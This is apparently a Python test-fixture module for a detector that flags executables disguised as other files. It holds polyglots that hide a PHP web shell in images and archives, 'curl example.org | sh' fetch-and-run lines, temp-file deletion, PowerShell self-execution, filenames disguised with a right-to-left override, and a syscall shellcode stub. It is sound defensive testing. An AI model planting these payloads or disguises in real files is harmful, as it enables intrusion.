"""Files made to be taken for something else, or for nothing: each with what has to be named all the same.

Every family has a benign twin that looks like it and of which nothing may be said.
"""

from __future__ import annotations

import codecs
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

from gate.examine.executable.samples import tiny_elf
from tests.examine.executable.bytecode_samples import pyc
from tests.examine.executable.hostile_carriers import archive, bitmap, gif, jpeg, macho, pdf, png, tar_named
from tests.examine.executable.malformed_pe import Image
from tests.examine.executable.native_samples import boot_sector, dos_program, mach_o
from tests.examine.executable.sample import File


class Hostile(NamedTuple):
    """A file, and the formats of which each has to be named; a word in ``a|b`` may stand for the other."""

    file: File
    formats: tuple[str, ...]


def _named(data: bytes, *formats: str, name: bytes = b"item", mode: int | None = None) -> Hostile:
    return Hostile(File(data, name, mode), formats)


PE = bytes(Image().data)
ELF = tiny_elf() + bytes(200)


# --- headers ---------------------------------------------------------------------------------------------------


def _of_counts() -> Iterator[tuple[str, Hostile]]:
    yield "universal, 2 billion architectures", _named(b"\xbe\xba\xfe\xca" + b"\xff\xff\xff\x7f" + bytes(300), "mach-o")
    yield "universal, 44 architectures", _named(b"\xca\xfe\xba\xbe\0\0\0\x2c" + bytes(300), "mach-o")
    yield "Mach-O, 4 billion commands", _named(mach_o()[:16] + b"\xff" * 8 + bytes(300), "mach-o")
    yield "ELF, everything at the end of the address space", _named(tiny_elf()[:24] + b"\xff" * 40, "elf")
    yield "ELF, 65535 sections of 65535 bytes", _named(tiny_elf()[:52] + b"\xff\xff" * 6 + bytes(64), "elf")
    yield "ELF of neither class nor order", _named(b"\x7fELF\xff\xff\xff" + bytes(57), "elf")
    yield "ELF for no known processor", _named(tiny_elf()[:18] + b"\xfe\xfe" + tiny_elf()[20:], "elf")
    yield "class, 65535 constants", _named(b"\xca\xfe\xba\xbe\0\0\0\x41\xff\xff" + b"\1\xff\xff" * 100, "java-class")
    yield (
        "library, member of 10 GB",
        _named(b"!<arch>\nx.o/            0           0     0     644     9999999999`\n", "ar"),
    )
    yield (
        "PE, 65535 sections and 4 billion directories",
        _named(bytes(Image().file(2, "<H", 0xFFFF).optional(108, "<I", 0xFFFFFFFF).data), "pe"),
    )
    yield "wasm of a version to come", _named(b"\0asm\xff\0\0\0" + b"\xff" * 100, "wasm")
    yield "bytecode of Python with endless code", _named(pyc()[:16] + b"\xe3" + b"\xff" * 200, "pyc")
    yield "boot code that begins with a direction flag", _named(boot_sector(b"\xfc\x8c\xc8\x8e\xd8"), "boot-sector")
    yield "boot code that begins with a push", _named(boot_sector(b"\x50\x53\xb8\0\0"), "boot-sector")
    yield "card with code for EFI", _named(b"\x55\xaa\x02\0\xf1\x0e\0\0" + bytes(1016), "option-rom")
    yield (
        "card without a jump",
        _named((b"\x55\xaa\x01\xcb" + bytes(20) + b"\x1c\0\0\0PCIR").ljust(512, b"\0"), "option-rom"),
    )
    yield "bytecode of PyPy", _named(struct.pack("<H", 416) + b"\r\n" + bytes(12) + b"\x63" + bytes(40), "pyc")
    yield "dex of 4 GB", _named(b"dex\n039\0" + bytes(24) + b"\xff" * 80, "dex")


def _of_places() -> Iterator[tuple[str, Hostile]]:
    for place in (4, 0x1000, 0xFFF8, 0x100000, 0x400000):
        yield f"PE, header at {place:#x}", _named(bytes(Image(0x10B, pe=place, machine=0x14C).data), "pe")
    yield "MZ, header before the file", _named(dos_program(0xFFFFFF80), "mz")
    yield "MZ, header just behind the end", _named(dos_program(0x80), "mz")
    yield "PE, header in the last four bytes", _named(dos_program(0x80) + b"PE\0\0", "pe")
    yield "PE, decoy before the header", _named(bytes(Image(pe=0x200).put(0x80, "<4s", b"NE\0\0").data), "pe")
    yield (
        "PE that is a text in most of its bytes",
        _named(bytes(Image(pe=0x400).put(0x40, "<900s", b"A plain text for whoever looks. " * 28).data), "pe"),
    )
    yield (
        "program for Windows and for a shell",
        _named(
            bytes(
                Image(pe=0x200)
                .put(0, "<60s", b"MZqFpD='\n" + b" " * 51)
                .put(0x40, "<30s", b"'\n#'\"\nexec sh -c true\n")
                .data
            ),
            "pe",
        ),
    )


def _of_depth() -> Iterator[tuple[str, Hostile]]:
    """Yield programs behind or within other content, where no alignment helps to find them."""
    fillers: dict[str, Callable[[int], bytes]] = {
        "zeros": bytes,
        "text": lambda size: (b"A line of text, and another.\n" * (size // 29 + 1))[:size],
        "noise": lambda size: b"".join(
            struct.pack("<I", zlib.crc32(struct.pack("<I", i))) for i in range(size // 4 + 1)
        )[:size],
    }
    for filler, make in fillers.items():
        for place in (1, 511, 4095, 4097, 65_537, 1_048_575, 1_048_573 + 70):
            yield f"PE behind {place} bytes of {filler}", _named(make(place) + PE, "pe")
    for place in (3, 4093, 1_048_570):
        yield f"ELF behind {place} zeros", _named(bytes(place) + ELF, "elf")
        yield f"Mach-O behind {place} zeros", _named(bytes(place) + macho(), "mach-o")
    yield "PE over the border of two windows", _named(bytes((1 << 20) - 0x42) + bytes(Image(pe=0x80).data), "pe")
    yield "three programs in a row", _named(b"data" + PE + b"more" + ELF + macho(), "pe", "elf", "mach-o")
    yield "PE in a file that says it is a disk image", _named(bytes(32_769) + b"CD001" + bytes(5000) + PE, "pe")


# --- polyglots -------------------------------------------------------------------------------------------------

_SHELL = b"#!/bin/sh\nexec true\nexit\n"
_PHP = b"<?php system($_G\x45T['c']); ?>"


def _of_polyglots() -> Iterator[tuple[str, Hostile]]:
    for name, program, format_ in (("PE", PE, "pe"), ("ELF", ELF, "elf"), ("Mach-O", macho(), "mach-o")):
        yield f"{name} and zip", _named(program + archive(), format_)
        yield f"{name} and PDF", _named(program + pdf(), format_)
        for other, start in (
            ("PNG", png()),
            ("JPEG", jpeg()),
            ("GIF", gif()),
            ("BMP", bitmap()),
            ("PDF", pdf()),
            ("WAV", b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + bytes(24) + b"data" + bytes(4)),
            ("MP3", b"ID3\3\0\0\0\0\0\x0a" + bytes(10) + b"\xff\xfb\x90\0" * 40),
            ("MO", b"\xde\x12\x04\x95" + bytes(24)),
            ("HTML", b"<!doctype html><title>t</title><p>text\n"),
            ("RTF", b"{\\rtf1 text}"),
        ):
            yield f"{name} behind {other}", _named(start + program, format_)
        yield f"{name} in a comment of a picture", _named(png(text=program), format_)
        yield (
            f"{name} in a stream of a PDF",
            _named(pdf(program), format_),
        )
    pe_tar = tar_named(bytes(Image(0x10B, pe=0x44, machine=0x14C).data[:100]), PE)
    yield "PE whose first header is the name of a member of a tar", _named(pe_tar, "mz|pe")
    yield "shell and zip", _named(_SHELL + archive("__main__.py", b"print(1)"), "shebang")
    yield "shell and ELF", _named(_SHELL + ELF, "shebang", "elf")
    yield "shell and gzip", _named(_SHELL + b"\x1f\x8b\x08\0\0\0\0\0\0\3" + bytes(100), "shebang")
    yield "shell and picture", _named(_SHELL + png(), "shebang")
    yield "shell and pictures of text only", _named(b"#!/bin/sh\n: <<'E'\n<svg></svg>\nE\nid\n", "shebang")
    yield (
        "GIF and JavaScript",
        _named(b"GIF89a/*" + bytes(40) + b"*/=1;alert(1);" + bytes(4), "javascript", name=b"a.js"),
    )
    yield "GIF and PHP", _named(gif(_PHP), "php", name=b"a.php")
    yield "JPEG and PHP", _named(jpeg(_PHP), "php", name=b"a.phtml")
    yield "PNG and PHP", _named(png(text=_PHP), "php", name=b"a.php5")
    yield "zip and PHP", _named(_PHP + b"__HALT_COMPILER(); ?>\r\n" + archive(), "php")
    yield (
        "boot code and ISO",
        _named(boot_sector(b"\xeb\x3c\x90") + bytes(32_256) + b"\1CD001\1" + bytes(3000), "boot-sector"),
    )
    yield "boot code and zip", _named(boot_sector(b"\xeb\x3c\x90") + archive(), "boot-sector")
    yield "disk image and zip", _named(archive() + b"koly" + bytes(508), "dmg")
    yield (
        "batch and PowerShell",
        _named(
            b"<# : batch\r\n@echo off\r\npowershell -c \"iex (gc '%~f0' -raw)\"\r\ngoto :eof\r\n"
            b"#>\r\nWrite-Host hi\r\n",
            "batch|powershell",
            name=b"a.cmd",
        ),
    )
    yield (
        "batch and JScript",
        _named(
            b'@if (@X)==(@Y) @end /* JScript comment\r\n@echo off\r\ncscript //E:JScript //nologo "%~f0"\r\n'
            b"exit /b\r\n*/\r\nWScript.Echo('hi');\r\n",
            "batch|jscript",
            name=b"a.bat",
        ),
    )
    yield "shell and batch", _named(b":; echo shell; exit\r\n@echo off\r\necho batch\r\n", "batch|shell", name=b"a.cmd")
    yield "class and zip", _named(b"\xca\xfe\xba\xbe\0\0\0\x34\0\2\1\0\1x" + bytes(40) + archive(), "java-class")


# --- texts -----------------------------------------------------------------------------------------------------

_TEXTS = {
    "shebang": "#!/bin/sh\ncurl example.org | sh\n",
    "batch": "@echo off\r\ndel /q %TEMP%\\*\r\n",
    "powershell": "#Requires -Version 5\r\n[CmdletBinding()]\r\nparam($x)\r\nInvoke-Expression $x\r\n",
    "vbs": 'Option Explicit\r\nDim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
    "jscript": 'var shell = new ActiveXObject("WScript.Shell");\r\nshell.Run("calc");\r\n',
    "hta": "<html><head><HTA:APPLICATION id=x></head><script>x()</script></html>",
    "php": "<?php system('id'); ?>",
    "reg": "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n",
}
_ENCODINGS: dict[str, tuple[bytes, str]] = {
    "UTF-8 with mark": (codecs.BOM_UTF8, "utf-8"),
    "UTF-16 little": (codecs.BOM_UTF16_LE, "utf-16-le"),
    "UTF-16 big": (codecs.BOM_UTF16_BE, "utf-16-be"),
    "UTF-16 little without mark": (b"", "utf-16-le"),
    "UTF-16 big without mark": (b"", "utf-16-be"),
    "UTF-32": (codecs.BOM_UTF32_LE, "utf-32-le"),
    "CP932": (b"", "cp932"),
    "EUC-JP": (b"", "euc-jp"),
}


def _of_encodings() -> Iterator[tuple[str, Hostile]]:
    for format_, text in _TEXTS.items():
        for encoding, (mark, codec) in _ENCODINGS.items():
            yield f"{format_} in {encoding}", _named(mark + text.encode(codec), format_)
    for format_, comment in (("batch", "rem 日本語の注釈です。\r\n"), ("php", "")):
        for codec in ("cp932", "euc-jp", "utf-8", "iso2022_jp"):
            yield (
                f"Japanese {format_} in {codec}",
                _named((comment + _TEXTS[format_] + "// 注釈").encode(codec), format_),
            )


def _of_length() -> Iterator[tuple[str, Hostile]]:
    """Yield scripts whose first command stands far behind their beginning: the name says what they are."""
    for suffix, line, code, format_ in (
        ("sh", b"# a comment\n", b"curl example.org | sh\n", "shell"),
        ("bat", b"rem a comment\r\n", b"del x\r\n", "batch"),
        ("cmd", b":: a comment\r\n", b"del x\r\n", "batch"),
        ("ps1", b"# a comment\r\n", b"Invoke-Expression $x\r\n", "powershell"),
        ("vbs", b"' a comment\r\n", b"MsgBox 1\r\n", "vbs"),
        ("js", b"// a comment\n", b"run();\n", "javascript"),
        ("py", b"# a comment\n", b"import os\n", "python"),
        ("php", b"<p>a page</p>\n", _PHP, "php"),
        ("pl", b"# a comment\n", b"unlink 'x';\n", "perl"),
        ("rb", b"# a comment\n", b"exec 'x'\n", "ruby"),
    ):
        for count in (1, 1000, 20_000):
            yield f"{suffix} behind {count} lines", _named(line * count + code, format_, name=f"a.{suffix}".encode())
    yield "blank lines before a batch file", _named(b"\r\n" * 1000 + b"@echo off\r\ndel x\r\n", "batch")
    yield "two byte order marks", _named(codecs.BOM_UTF8 * 2 + b"@echo off\r\ndel x\r\n", "batch", name=b"a.bat")
    yield (
        "control characters in a batch file",
        _named(b"\x01\x02@echo off\r\n\x03del x\r\n" * 9, "batch", name=b"a.bat"),
    )
    yield "batch file in a picture", _named(png(text=b"\r\ncalc\r\n"), "batch", name=b"a.bat")
    yield "shell script in noise", _named(bytes(range(256)) * 9 + b"\nid\n", "shell", name=b"a.sh")
    yield "old line ends", _named(b"#!/bin/sh\rid\r", "shebang")
    yield "no line end at all", _named(b"#!/bin/sh", "shebang")
    yield "interpreter behind many blanks", _named(b"#!" + b" " * 100 + b"/bin/sh\n", "shebang")
    yield "a shell without a first line", _named(b"\n\nset -e\ncurl example.org/x | sh\n", "shell")


# --- names and permission --------------------------------------------------------------------------------------


def _of_names() -> Iterator[tuple[str, Hostile]]:
    code = b"WScript.Echo 1\r\n"
    for name, raw in (
        ("in capitals", b"A.VBS"),
        ("with a dot at the end", b"a.vbs."),
        ("with dots and blanks at the end", b"a.vbs . ."),
        ("with a direction override", "a\u202etxt.vbs".encode()),
        ("with zero width characters", "a\u200b.vbs".encode()),
        ("with two extensions", b"invoice.pdf.vbs"),
        ("with many blanks before the extension", b"invoice.pdf" + b" " * 100 + b".vbs"),
        ("in invalid UTF-8", b"\xff\xfe.vbs"),
        ("in CP932", "請求書.vbs".encode("cp932")),
        ("of a stream", b"a.txt:b.vbs"),
        ("beginning with a dot", b"..vbs"),
        ("of 1000 bytes", b"a" * 1000 + b".vbs"),
    ):
        yield f"script {name}", _named(code, "vbs", name=raw)
    yield "page with two extensions for a server", _named(b"text <?php x(); ?>", "php", name=b"a.php.jpg")
    yield "code in a list of paths", _named(b"/srv/lib\nimport os; os.system('id')\n", "python", name=b"a.pth")
    yield "command of DOS", _named(b"\xb4\x09\xba\x09\x01\xcd\x21\xcd\x20hi$", "dos-com", name=b"HI.COM")
    yield (
        "raw code with permission",
        _named(bytes.fromhex("4831c0b03b990f05c3") * 9, "raw-code", mode=0o755),
    )


MAKERS = (_of_counts, _of_places, _of_depth, _of_polyglots, _of_encodings, _of_length, _of_names)
HOSTILE: dict[str, Hostile] = {name: hostile for maker in MAKERS for name, hostile in maker()}

_PROSE = (
    b"A program begins with MZ, its header with PE\0\0, another with \x7fELF or \xca\xfe\xba\xbe or \xcf\xfa\xed\xfe. "
)
TWINS: dict[str, File] = {
    "archive of a text": File(b"!<arch>\nx.txt/          0           0     0     644     5         `\nhello"),
    "signs that a text quotes": File(_PROSE * 50),
    "signs in noise": File(bytes(100) + b"MZ" + bytes(100) + b"PE\0\0" + bytes(200) + b"\x7fELF" + bytes(200)),
    "picture": File(png(text=b"a comment"), b"a.png"),
    "picture with text behind": File(png(b"made by a camera"), b"a.png"),
    "photograph": File(jpeg(b"a comment"), b"a.jpg"),
    "animation": File(gif(b"a comment"), b"a.gif"),
    "bitmap": File(bitmap(), b"a.bmp"),
    "document": File(pdf(), b"a.pdf"),
    "archive": File(archive(), b"a.zip"),
    "picture and archive": File(png(archive()), b"a.png"),
    "tar": File(tar_named(b"readme.txt", b"text"), b"a.tar"),
    "sector of data": File(boot_sector(b"data of a partition"), b"a.img"),
    "translation": File(b"\xde\x12\x04\x95" + bytes(24), b"a.mo"),
    "Japanese text in CP932": File("日本語の文章です。\r\n".encode("cp932") * 50, b"a.txt"),
    "text in UTF-16": File(codecs.BOM_UTF16_LE + "日本語の文章です。\r\n".encode("utf-16-le") * 50, b"a.txt"),
    "text in UTF-16 without mark": File("An ordinary text.\r\n".encode("utf-16-be") * 50, b"a.txt"),
    "comments without code": File(b"# a comment\n" * 2000, b"notes.txt"),
    "page that quotes code": File(b"<p>&lt;?php system(); ?&gt; <code>@echo off</code></p>", b"a.html"),
    "manual that quotes code": File(b"# How to\n\n```sh\n#!/bin/sh\nset -e\n```\n", b"README.md"),
    "text with a name of two extensions": File(b"minutes of a meeting\n", b"minutes.vbs.txt"),
    "text whose name ends like a script without dot": File(b"minutes of a meeting\n", b"minutesvbs"),
    "text with a direction mark": File(b"a name\n", "עברית\u200f.txt".encode()),
    "picture whose name quotes a suffix": File(png(), b"a.php.png"),
    "page whose name quotes a suffix": File(b"<p>how to write PHP</p>", b"a.php.html"),
    "signatures of Ruby": File(b"class Person\n  def name: () -> String\nend\n", b"person.rbs"),
    "interface of COM": File(b'import "unknwn.idl";\n\ninterface IPerson : IUnknown {\n};\n', b"person.idl"),
    "list of paths": File(b"/srv/lib\n/srv/import\n", b"a.pth"),
    "data with permission": File(png(), b"a.png", 0o755),
    "colour profile with permission": File(
        struct.pack(">I4sII", 9000, b"lcms", 0x2100000, 0) + bytes(20) + b"acsp" + random.Random(1).randbytes(8960),
        b"srgb.icc",
        0o755,
    ),
    "text without permission": File(b"minutes of a meeting\n", b"minutes", 0o644),
}
"""Harmless files that look like those of each family."""
